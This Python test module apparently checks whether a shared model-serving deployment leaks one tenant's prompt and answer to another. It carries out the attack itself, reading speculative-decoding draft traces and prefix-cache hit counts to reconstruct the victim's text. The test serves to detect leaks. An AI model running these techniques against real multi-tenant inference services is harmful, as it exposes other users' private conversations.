"""What one tenant can try to read what another has asked and been answered."""

import json
from collections.abc import Iterator, Mapping, Sequence
from typing import Any, NamedTuple

import requests

from tests.deployments.serving import URL, eventually, is_idle, tokenizer

KNOWN = 8
"""Tokens of the other one's answer that the attacker begins with."""
READ = 24
"""Tokens that it tries to read after them."""
_NOTES = " ".join(f"Row {number}: river {number * 7}, {number * 31} km." for number in range(30))
SECRET = f"<|user|>{_NOTES} Now list 9 animals, then 7 cities.<|end|><|assistant|>"
"""Half of it fills a block of vLLM's prefix cache, which has 128 tokens on a CPU."""


class Seen(NamedTuple):
    """All that an attack returns, but for times."""

    words: list[int]
    """What it takes for the other one's tokens."""
    nodes: list[list[tuple[int, int | None]]]
    """Token and parent of all drafts of each of its requests."""
    counts: list[tuple[int, int]]
    """Drafted and accepted tokens of each."""
    cached: list[int]
    """Tokens of the prompts that came from the prefix cache."""


def chunks_of(key: str, fields: Mapping[str, Any]) -> list[dict[str, Any]]:
    headers = {"Authorization": f"Bearer {key}"}
    answer = requests.post(f"{URL}/v1/completions", json=fields, headers=headers, timeout=60)
    assert answer.ok, answer.text
    lines = [line.removeprefix("data: ") for line in answer.text.splitlines() if line]
    return [json.loads(line) for line in lines if line != "[DONE]"]


def ask(key: str, **fields: Any) -> list[dict[str, Any]]:
    plain = {
        "model": "target",
        "stream": True,
        "stream_options": {"include_usage": True},
        "return_token_ids": True,
        "ignore_eos": True,
        "speculation": "suffix",
    }
    chunks = chunks_of(key, {**plain, **fields})
    # Its output is a past output when all hosts have forgotten the request.
    eventually(is_idle, "nothing runs")
    assert not any("error" in chunk for chunk in chunks), chunks
    return chunks


def tokens_of(chunks: Sequence[Mapping[str, Any]]) -> list[int]:
    return [token for one in choices(chunks) for token in one.get("token_ids") or ()]


def choices(chunks: Sequence[Mapping[str, Any]]) -> Iterator[Mapping[str, Any]]:
    for chunk in chunks:
        yield from chunk["choices"]


def secret_answer(key: str, seed: int, **fields: Any) -> list[int]:
    """An answer that stands nowhere else: hot, and from an unknown seed."""
    hot = {"temperature": 1.2, "max_tokens": KNOWN + READ + 8, "seed": seed}
    return tokens_of(ask(key, prompt=SECRET, **hot, **fields))


def attack(key: str, answer: Sequence[int], **fields: Any) -> Seen:
    """Reads on from the first tokens of an answer, and guesses its prompt; returns all it saw."""
    words, seen = list(answer[:KNOWN]), Seen([], [], [], [])
    while len(words) < KNOWN + READ:
        # The last known token is forced, so that a draft continues the known ones. The prompt does
        # not have it, and where the draft comes back to the prompt it is not read on: there the
        # request's own text would be looked up as well.
        back = 0
        while back < 3 and words[-1 - back] == words[-2 - back]:
            back += 1  # nothing between them: the draft after the first of equal tokens is read
        known = words[: len(words) - back]
        prompt = before(known[-KNOWN:-1], known[-1]) or known[-2:-1]
        chunks = ask(
            key,
            prompt=prompt,
            logit_bias={str(known[-1]): 100},
            max_tokens=6,
            temperature=0,
            spindle={"trace": True},
            **fields,
        )
        note(seen, chunks)
        drafts = drafts_after_first(chunks)[back:]
        if not drafts:
            break
        known_again = [place for place, token in enumerate(drafts) if token in prompt]
        words += drafts[: known_again[0] + 1] if known_again else drafts
    # Without a trace: is this in another's answer?
    for length in (KNOWN, KNOWN + READ // 2):
        prompt = list(answer[:length])
        note(seen, ask(key, prompt=prompt, max_tokens=6, seed=1, **fields))
    # And this in another's prompt?
    whole = tokenizer()(SECRET)["input_ids"]
    for guess in (whole, [*whole[: len(whole) // 2], *range(100, 120)]):
        note(seen, ask(key, prompt=guess, max_tokens=1, **fields))
    seen.words.extend(words[KNOWN:])
    return seen


def before(known: Sequence[int], forced: int) -> list[int]:
    """The end of the known tokens that does not have the forced one."""
    places = [place for place, token in enumerate(known) if token == forced]
    return list(known[places[-1] + 1 :] if places else known)


def note(seen: Seen, chunks: Sequence[Mapping[str, Any]]) -> None:
    nodes = [
        (node["id"], node["parent"])
        for choice in choices(chunks)
        for node in (choice.get("spindle") or {}).get("trace", {}).get("nodes", ())
    ]
    (statistics,) = [one["spindle"] for one in choices(chunks) if one["finish_reason"]]
    usage = chunks[-1]["usage"]
    seen.nodes.append(nodes)
    seen.counts.append((statistics["drafted"], statistics["accepted"]))
    seen.cached.append(usage["prompt_tokens_details"]["cached_tokens"])


def drafts_after_first(chunks: Sequence[Mapping[str, Any]]) -> list[int]:
    """The chain that was drafted after the first token of the output, which was forced."""
    traces = [(choice.get("spindle") or {}).get("trace") for choice in choices(chunks)]
    second = [trace for trace in traces if trace and trace["round"] == 2]
    chain: list[int] = []
    parent = None
    for place, node in enumerate(second[0]["nodes"] if second else ()):
        if node["parent"] == parent:
            chain.append(node["id"])
            parent = place
    return chain


def share_read(seen: Seen, answer: Sequence[int]) -> float:
    """How much of the rest of the answer the attacker has read."""
    rest = answer[KNOWN : KNOWN + READ]
    right = 0
    for token, guess in zip(rest, seen.words, strict=False):
        if token != guess:
            break
        right += 1
    return right / len(rest)
